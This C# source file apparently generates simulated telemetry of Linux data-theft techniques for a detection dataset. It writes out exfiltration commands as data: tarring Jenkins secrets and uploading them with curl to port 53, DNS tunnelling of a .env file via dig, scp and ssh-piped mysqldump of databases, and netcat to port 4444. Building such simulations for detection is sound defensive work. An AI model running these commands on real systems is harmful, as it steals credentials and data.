using Det0131.Datasets.Simulation.Formats;
using Det0131.Datasets.Simulation.Machines;

namespace Det0131.Datasets.Simulation.Acts;

/// <summary>Acts on Linux hosts (AN0368).</summary>
internal static class LinuxActs
{
    public static IEnumerable<ActScript> Scripts() =>
    [
        new(new Act("lin-curl-port53", "AN0368", "T1048", "curl HTTP on port 53", "build account, the protocol on another's port", "build01", "47.92.10.60"), "build01", [1], CurlPort53),
        new(new Act("lin-xxd-dig", "AN0368", "T1048.003", "xxd and dig loop", "web server's account, 60 hexadecimal characters a name", "web02", "nsync.test"), "web02", [3], XxdDig),
        new(new Act("lin-scp-www", "AN0368", "T1048.002", "scp of a dump", "by www-data", "web01", "194.87.50.20"), "web01", [4], ScpByWebServer),
        new(new Act("lin-mysqldump-ssh", "AN0368", "T1048.002", "mysqldump, gzip, ssh", "a pipe, nothing on disk", "db01", "91.200.12.9"), "db01", [0], MysqldumpSsh),
        new(new Act("lin-nc", "AN0368", "T1048.003", "nc of an archive", "no application protocol, one way", "build02", "185.107.56.77"), "build02", [2], Netcat),
        new(new Act("lin-slow-curl", "AN0368", "T1048.002", "curl HTTPS POST from cron", "hard: slow and low over the week, as chat alerts do", "mon01", "status.opsboard.test"), "mon01", [0, 1, 2, 3, 4, 5, 6], SlowCurl),
    ];

    private static void CurlPort53(ActStage stage)
    {
        var linux = stage.Linux;
        var at = stage.At(21.4);
        var shell = linux.Run(at, "/usr/bin/bash", "/bin/bash -i", linux.Resident("/usr/lib/jvm/java-21-openjdk-amd64/bin/java", "jenkins"), "jenkins");
        linux.Run(at + 20_000_000, "/usr/bin/tar", "tar czf /tmp/.cache.tgz /var/lib/jenkins/secrets /var/lib/jenkins/workspace", shell, "jenkins");
        var curl = linux.Run(at + 60_000_000, "/usr/bin/curl", "curl -s --data-binary @/tmp/.cache.tgz http://47.92.10.60:53/", shell, "jenkins");
        linux.Connect(curl, at + 61_000_000, new Peer("47.92.10.60", 53, "http"), Transfer.Upload(46_000_000, 3), new HttpCall("POST", "/", "curl/8.14.1", 46_000_000, 2));
    }

    private static void XxdDig(ActStage stage)
    {
        var linux = stage.Linux;
        var at = stage.At(2.8);
        var shell = linux.Run(at, "/usr/bin/dash", "sh -c 'xxd -p -c 30 /srv/www/config/.env | while read d; do dig +short $d.d.nsync.test; done'", linux.Resident("/usr/sbin/php-fpm8.4", "www-data"), "www-data");
        linux.Run(at + 50_000, "/usr/bin/xxd", "xxd -p -c 30 /srv/www/config/.env", shell, "www-data");
        var time = at + 100_000;
        foreach (var name in stage.TunnelNames(280, TunnelAlphabet.Hexadecimal, 60, 60, "d.nsync.test"))
        {
            var dig = linux.Run(time, "/usr/bin/dig", "dig +short " + name, shell, "www-data");
            linux.Tunnel(dig, time + 12_000, new DnsExchange(name, "A", null));
            time += 90_000 + stage.Random.Between(0, 40_000);
        }
    }

    private static void ScpByWebServer(ActStage stage)
    {
        var linux = stage.Linux;
        var at = stage.At(23.2);
        var shell = linux.Run(at, "/usr/bin/dash", "sh -c 'scp -o StrictHostKeyChecking=no /tmp/.s/shop.sql.gz u@194.87.50.20:/d/'", linux.Resident("/usr/sbin/php-fpm8.4", "www-data"), "www-data");
        var scp = linux.Run(at + 200_000, "/usr/bin/scp", "scp -o StrictHostKeyChecking=no /tmp/.s/shop.sql.gz u@194.87.50.20:/d/", shell, "www-data");
        linux.Open(scp, at + 300_000, "/tmp/.s/shop.sql.gz");
        var ssh = linux.Run(at + 350_000, "/usr/bin/ssh", "/usr/bin/ssh -x -o StrictHostKeyChecking=no -l u 194.87.50.20 scp -t /d/", scp, "www-data");
        linux.Connect(ssh, at + 400_000, new Peer("194.87.50.20", 22, "ssh"), Transfer.Upload(262_000_000, 5));
    }

    private static void MysqldumpSsh(ActStage stage)
    {
        var linux = stage.Linux;
        var at = stage.At(22.1);
        var shell = linux.Run(at, "/usr/bin/bash", "bash -c 'mysqldump --all-databases | gzip -1 | ssh -p 443 r@91.200.12.9 cat'", linux.Resident("/usr/sbin/mariadbd", "mysql"), "mysql");
        linux.Run(at + 30_000, "/usr/bin/mysqldump", "mysqldump --all-databases", shell, "mysql");
        linux.Run(at + 31_000, "/usr/bin/gzip", "gzip -1", shell, "mysql");
        var ssh = linux.Run(at + 32_000, "/usr/bin/ssh", "ssh -p 443 r@91.200.12.9 cat", shell, "mysql");
        linux.Connect(ssh, at + 80_000, new Peer("91.200.12.9", 443, "ssh"), Transfer.Upload(3_100_000_000, 6));
    }

    private static void Netcat(ActStage stage)
    {
        var linux = stage.Linux;
        var at = stage.At(19.7);
        var shell = linux.Run(at, "/usr/bin/bash", "bash -c 'nc -w 5 185.107.56.77 4444 < /tmp/.x.tar'", linux.Resident("/usr/lib/jvm/java-21-openjdk-amd64/bin/java", "jenkins"), "jenkins");
        var nc = linux.Run(at + 100_000, "/usr/bin/nc.openbsd", "nc -w 5 185.107.56.77 4444", shell, "jenkins");
        linux.Connect(nc, at + 140_000, new Peer("185.107.56.77", 4444, ""), new Transfer(118_000_000, 0, 31));
    }

    private static void SlowCurl(ActStage stage)
    {
        var linux = stage.Linux;
        for (var hour = 1; hour < 24; hour += 4)
        {
            var at = stage.At(hour + 0.5) + (stage.Random.Between(0, 1200) * 1_000_000L);
            var shell = linux.Run(at, "/usr/bin/dash", "/bin/sh -c '/usr/local/bin/board-sync'", linux.Resident("/usr/sbin/cron"), "zabbix");
            var curl = linux.Run(at + 60_000, "/usr/bin/curl", "curl -s -X POST --data-binary @/var/tmp/board.bin https://status.opsboard.test/api/v1/push", shell, "zabbix");
            linux.ResolveAndConnect(curl, at + 200_000, new Peer("34.149.66.90", 443, "ssl", "status.opsboard.test"), new Transfer(stage.Random.Between(150_000, 400_000), 4_200, 1));
        }
    }
}
